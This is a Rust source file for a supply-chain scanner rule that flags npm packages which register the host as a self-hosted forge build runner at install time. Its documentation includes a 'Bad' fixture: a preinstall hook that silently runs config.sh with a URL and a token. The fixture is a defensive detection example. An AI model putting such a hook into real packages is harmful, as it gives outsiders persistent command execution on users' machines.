//! # The machine is registered as a build runner
//!
//! A command that nobody asked for fetches or configures a runner of a forge.
//!
//! ## Why it matters
//!
//! Whoever may start a workflow then runs commands on this machine, through a program that looks legitimate.
//!
//! ## Known benign uses
//!
//! Set-up tools for runners do so when a person runs them.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "node r.js"}}
//! == r.js
//! const { execSync } = require("child_process");
//! const folder = require("os").homedir() + "/.dev-env";
//! execSync("./config.sh --url https://forge.invalid/a/b --unattended --token " + process.argv[2] + " --name BOX", { cwd: folder }); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { execFileSync } = require("child_process");
//! exports.configure = (url, token) => execFileSync("./config.sh", ["--url", url, "--token", token]);
//! ```
//!
//! ## References
//!
//! - Wiz: Shai-Hulud 2.0 (November 2025)

use crate::prelude::*;

/// The machine is registered as a build runner.
pub struct BuildRunnerRegistered;

impl Rule for BuildRunnerRegistered {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "build-runner-registered",
            title: "The machine is registered as a build runner",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1543",
            covers: &["persist-selfhosted-runner"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for command in facts.commands().iter().filter(|command| command.trigger.runs_unasked()) {
            let has = |part: &str| command.text.contains(part);
            let configures = (has("config.sh") || has("config.cmd")) && has("--token") && has("--url");
            let fetches = has("actions-runner-") && command.behaviours.iter().any(is_download);
            if configures || fetches {
                found.at(command.trigger, &command.locus, "makes the machine a build runner of a forge");
            }
        }
    }
}

fn is_download(kind: &BehaviourKind) -> bool {
    matches!(kind, BehaviourKind::Download { .. } | BehaviourKind::DownloadAndRun { .. })
}
